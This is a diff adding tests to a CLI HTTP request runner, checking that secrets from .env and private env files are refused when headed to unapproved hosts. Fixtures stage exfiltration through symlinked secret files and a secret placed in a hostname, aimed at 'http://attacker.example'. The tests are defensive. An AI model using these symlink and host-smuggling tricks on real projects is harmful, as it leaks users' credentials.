@@ -70,6 +70,34 @@ describe('a private value on the command line', () => {
     expect((await commandLine(['run', '--allow-origin', 'prod', 'a.http'], { cwd })).code).toBe(2);
   });
 
+  it.each([
+    ['an endpoint', '# @endpoint own\n# @insecure\nGET /_cluster/health', 'add --trust-endpoint own'],
+    ['a host', '# @insecure\nGET https://x.example/', 'remove `# @insecure`'],
+  ])('is refused with a step that helps where a certificate of %s is not verified', async (_, request, step) => {
+    const endpoints = { own: { service: 'search-cluster', baseUrl: 'https://own.example' } };
+    const cwd = folderOf({
+      'rulebook.json': JSON.stringify({ endpoints }),
+      'a.http': `${request}\nX: {{$processEnv OTHER}}\n`,
+    });
+    const { code, error } = await commandLine(['run', '--yes', 'a.http'], { cwd, env: { OTHER: canary } });
+    expect(code).toBe(3);
+    expect(error).toContain(`unverified before; if that is meant, ${step}`);
+  });
+
+  it('is not shown where it stands in a host', async () => {
+    const proxy = await startListener((url) => JSON.stringify({ url }));
+    const cwd = folderOf({ '.env': 'S=Canary4713\n', 'a.http': 'GET http://{{$dotenv S}}.x.example/a\n' });
+    const env = { http_proxy: proxy.url };
+    const refused = await commandLine(['run', 'a.http'], { cwd, env });
+    expect(refused.code).toBe(3);
+    expect(refused.error).toContain('add --allow-origin http://***.x.example');
+    const args = ['run', '--allow-origin', 'http://canary4713.x.example', '--har', 'a.har', 'a.http'];
+    const sent = await commandLine(args, { cwd, env });
+    expect(sent.code).toBe(0);
+    expect(proxy.received.join()).toContain('canary4713');
+    expect(refused.error + sent.out + readFileSync(join(cwd, 'a.har'), 'utf8')).not.toMatch(/canary/i);
+  });
+
   const files = {
     '.env': `S=${canary}\n`,
     'http-client.private.env.json': JSON.stringify({ dev: { token: canary } }),
@@ -148,6 +176,49 @@ describe('a private value on the command line', () => {
       expect({ path, code }).toEqual({ path, code: 3 });
     }
     expect(proxy.received).toEqual([]);
+  });
+
+  it.each([
+    ['.env', '../.env', 'X: {{$dotenv TOKEN}}'],
+    ['.env', '../.env', 'X: {{TOKEN}}'],
+    ['local.env', '../.env', 'X: {{TOKEN}}', 'local'],
+    ['http-client.private.env.json', '../http-client.private.env.json', 'X: {{token}}'],
+    ['env', '..', 'X: {{TOKEN}}'],
+    ['env', '..', 'X: {{token}}'],
+  ])("is not a stranger's by a link of theirs: %s -> %s, %s", async (link, target, field, environment = 'dev') => {
+    const proxy = await startListener();
+    const cwd = folderOf({
+      '.env': `TOKEN=${canary}\n`,
+      'http-client.private.env.json': JSON.stringify({ dev: { token: canary } }),
+      'clone/rulebook.json': JSON.stringify({
+        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://attacker.example' } },
+      }),
+      'clone/http-client.env.json': JSON.stringify({ dev: { base: 'http://attacker.example' } }),
+      'clone/a.http': `# @endpoint api\nGET /_cluster/health\n${field}\n`,
+    });
+    symlinkSync(target, join(cwd, 'clone', link));
+    const args = ['run', '--env', environment, 'clone/a.http'];
+    const { code, error } = await commandLine(args, { cwd, env: { http_proxy: proxy.url } });
+    expect({ code, received: proxy.received }).toEqual({ code: 3, received: [] });
+    expect(error).toContain('has not been sent to http://attacker.example before');
+  });
+
+  it('may go to the endpoints of a folder that is reached by a link itself', async () => {
+    const proxy = await startListener();
+    const cwd = folderOf({
+      'own/.env': `TOKEN=${canary}\n`,
+      'own/rulebook.json': JSON.stringify({
+        endpoints: { api: { service: 'search-cluster', baseUrl: 'http://own.example' } },
+      }),
+      'own/a.http': '# @endpoint api\nGET /_cluster/health\nX: {{TOKEN}}{{$dotenv TOKEN}}\n',
+      'own/b.http': '# @endpoint api\nPOST /a/_doc\nContent-Type: text/plain\n\n< .env\n',
+    });
+    symlinkSync('own', join(cwd, 'link'));
+    for (const path of ['link/a.http', 'link/b.http'])
+      expect(await commandLine(['run', '--send-anyway', path], { cwd, env: { http_proxy: proxy.url } })).toMatchObject({
+        code: 0,
+      });
+    expect(proxy.received).toHaveLength(2);
   });
 });
 
